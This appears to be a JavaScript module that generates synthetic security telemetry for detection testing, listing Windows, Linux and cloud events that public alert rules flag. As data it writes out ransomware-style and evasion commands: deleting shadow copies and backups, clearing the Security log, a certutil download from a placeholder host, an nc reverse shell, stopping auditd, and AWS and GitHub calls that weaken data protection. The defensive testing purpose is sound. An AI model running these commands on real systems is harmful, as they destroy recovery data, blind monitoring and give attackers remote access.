// What a stream is made loud with: programs called in ways that public rules alert on.

const SYSTEM32 = 'C:\\Windows\\System32';
const onWindows = (name, by, lines) => ({
  exe: `${SYSTEM32}\\${name}`,
  signer: 'Microsoft Windows',
  by,
  as: 'user',
  lines,
});

export const WINDOWS_SUSPECTS = [
  onWindows('vssadmin.exe', 'explorer', () => ['delete', 'shadows', '/all', '/quiet']),
  onWindows('certutil.exe', 'explorer', c => [
    '-urlcache',
    '-split',
    '-f',
    `http://${c.hex(8)}.example/a.exe`,
    'a.exe',
  ]),
  onWindows('wbadmin.exe', 'explorer', () => ['delete', 'catalog', '-quiet']),
  onWindows('bcdedit.exe', 'explorer', () => ['/set', '{default}', 'recoveryenabled', 'no']),
  onWindows('mshta.exe', 'mail', c => [`https://${c.hex(8)}.example/x.hta`]),
  onWindows('cmd.exe', 'mail', c => ['/c', 'start', `${c.hex(6)}.bat`]),
  onWindows('wevtutil.exe', 'explorer', () => ['cl', 'Security']),
  onWindows('fsutil.exe', 'explorer', () => ['usn', 'deletejournal', '/D', 'C:']),
];

export const LINUX_SUSPECTS = [
  { exe: '/usr/bin/chattr', by: 'cron', as: 'root', lines: () => ['-i', '/etc/passwd'] },
  {
    exe: '/usr/bin/nc',
    by: 'app',
    as: 'app',
    lines: c => ['-e', '/bin/sh', `1.2.3.${c.whole(2, 90)}`, '4444'],
  },
  { exe: '/usr/bin/base64', by: 'app', as: 'app', lines: c => ['-d', `/tmp/${c.hex(6)}`] },
  { exe: '/usr/sbin/setenforce', by: 'cron', as: 'root', lines: () => ['0'] },
  { exe: '/usr/bin/systemctl', by: 'cron', as: 'root', lines: () => ['stop', 'auditd'] },
  { exe: '/usr/bin/chmod', by: 'app', as: 'root', lines: c => ['u+s', `/tmp/${c.hex(6)}`] },
  { exe: '/usr/sbin/insmod', by: 'cron', as: 'root', lines: c => [`/tmp/${c.hex(6)}.ko`] },
];

export const CLOUD_SUSPECTS = [
  {
    source: 'aws',
    call: {
      provider: 's3.amazonaws.com',
      action: 'PutBucketVersioning',
      asked: c => `{bucketName=b-${c.hex(6)}, VersioningConfiguration={Status=Suspended}}`,
    },
  },
  {
    source: 'aws',
    call: {
      provider: 'ec2.amazonaws.com',
      action: 'ModifySnapshotAttribute',
      asked: c =>
        `{snapshotId=snap-${c.hex(17)}, attributeType=CREATE_VOLUME_PERMISSION, createVolumePermission={add={items=[{userId=${c.whole(1e11, 9e11)}}]}}}`,
    },
  },
  {
    source: 'aws',
    call: {
      provider: 'rds.amazonaws.com',
      action: 'ModifyDBInstance',
      asked: c => `{dBInstanceIdentifier=db-${c.hex(6)}, deletionProtection=false}`,
    },
  },
  { source: 'azureSignIn', call: { agent: 'azurehound/v2.0.4' } },
  { source: 'github', call: { action: 'repo.destroy', category: 'repo', type: ['deletion'] } },
  {
    source: 'github',
    call: { action: 'protected_branch.update', category: 'protected_branch', type: ['change'] },
  },
];
